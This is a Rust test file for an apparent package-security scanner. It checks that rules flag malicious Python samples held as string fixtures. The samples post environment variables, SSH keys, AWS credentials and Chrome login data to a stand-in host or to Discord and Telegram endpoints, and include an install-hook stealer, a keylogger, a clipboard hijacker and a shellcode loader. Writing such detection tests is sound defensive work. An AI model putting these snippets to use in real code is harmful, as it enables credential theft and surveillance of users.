//! Data taken and sent: what must be found.

#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use packguard_sdk::Severity::{Critical, High, Medium};
use support::{case, found};

#[test]
fn exfiltration() {
    let rule = "python-exfiltration";
    let init = "demo/__init__.py";
    found(&[
        case(
            rule,
            init,
            "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))",
            Critical,
        ),
        case(
            rule,
            init,
            "import os, requests, json\nd = json.dumps(os.environ.copy())\nrequests.get('https://x.example?d=' + d)",
            Critical,
        ),
        case(
            rule,
            init,
            "import os, requests\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nrequests.post('https://x.example', data=d)",
            Critical,
        ),
        case(
            rule,
            init,
            "import os, requests\nd = {**os.environ}\nrequests.post('https://x.example', json=d)",
            Critical,
        ),
        case(
            rule,
            init,
            "import os, requests\nrequests.post('https://x.example', data=f'{os.environ}')",
            Critical,
        ),
        case(
            rule,
            init,
            "import os, requests\nout = []\nfor k in os.environ:\n    out.append(k + os.environ[k])\nrequests.post('https://x.example', data=out)",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests, shutil, sqlite3\nshutil.copy2('/root/.config/google-chrome/Default/Login Data', 'l.db')\nc = sqlite3.connect('l.db').cursor()\nc.execute('select 1')\nrequests.post('https://x.example', json=c.fetchall())",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://x.example', data=k)",
            Critical,
        ),
        case(
            rule,
            init,
            "import requests, pathlib\nk = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\nrequests.post('https://x.example', data=k)",
            Critical,
        ),
        case(
            rule,
            init,
            "import socket, getpass, urllib.request as u\nu.urlopen('https://x.example/?' + socket.gethostname() + getpass.getuser())",
            Medium,
        ),
        case(
            rule,
            "setup.py",
            "import socket, requests\nh = socket.gethostname()\nrequests.get(f'https://x.example/{h}')",
            High,
        ),
        case(
            rule,
            "setup.py",
            "import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        requests.post('https://x.example', data={'t': os.environ['AWS_SECRET_ACCESS_KEY']})\nsetup(cmdclass={'install': I})",
            High,
        ),
        case(
            rule,
            init,
            "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.' + 'x.example')",
            High,
        ),
        case(
            rule,
            init,
            "import os, urllib.request\ndef collect():\n    return dict(os.environ)\ndef send(d):\n    urllib.request.urlopen('https://x.example', data=str(d).encode())\nsend(collect())",
            Critical,
        ),
        case(
            rule,
            "demo/a.py",
            "import pyperclip, requests\ndef f():\n    requests.post('https://discord.com/api/webhooks/1/a', json={'c': pyperclip.paste()})",
            High,
        ),
        case(
            "python-credential-access",
            init,
            "open('/root/.aws/credentials').read()",
            Medium,
        ),
        case(
            "python-suspicious-host",
            init,
            "import requests\nrequests.get('https://webhook.site/abc')",
            Medium,
        ),
        case(
            "python-suspicious-host",
            "setup.py",
            "import requests\nrequests.get('https://webhook.site/abc')",
            High,
        ),
    ]);
}

#[test]
fn surveillance_and_native_code() {
    let init = "demo/a.py";
    found(&[
        case(
            "python-clipboard-hijack",
            init,
            "import pyperclip, re\nwhile True:\n    t = pyperclip.paste()\n    if re.match('^bc1', t):\n        pyperclip.copy('bc1x')",
            High,
        ),
        case(
            "python-keylogger",
            init,
            "from pynput.keyboard import Listener\nimport requests\ndef p(k):\n    requests.post('https://discord.com/api/webhooks/1/a', data=str(k))\nListener(on_press=p).start()",
            High,
        ),
        case(
            "python-screen-capture",
            init,
            "from PIL import ImageGrab\nimport requests\ni = ImageGrab.grab()\nrequests.post('https://api.telegram.org/bot1:A/sendPhoto', files={'p': i})",
            High,
        ),
        case(
            "python-shellcode",
            init,
            "import ctypes\nb = b'\\xfc\\x48\\x83\\xe4\\xf0\\xe8\\xc0\\x00\\x00\\x00\\x41\\x51\\x41\\x50\\x52\\x51\\x56\\x48\\x31\\xd2\\x65\\x48\\x8b\\x52\\x60'\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, len(b), 0x3000, 0x40)\nk.RtlMoveMemory(p, b, len(b))\nk.CreateThread(0, 0, p, 0, 0, 0)",
            High,
        ),
    ]);
}
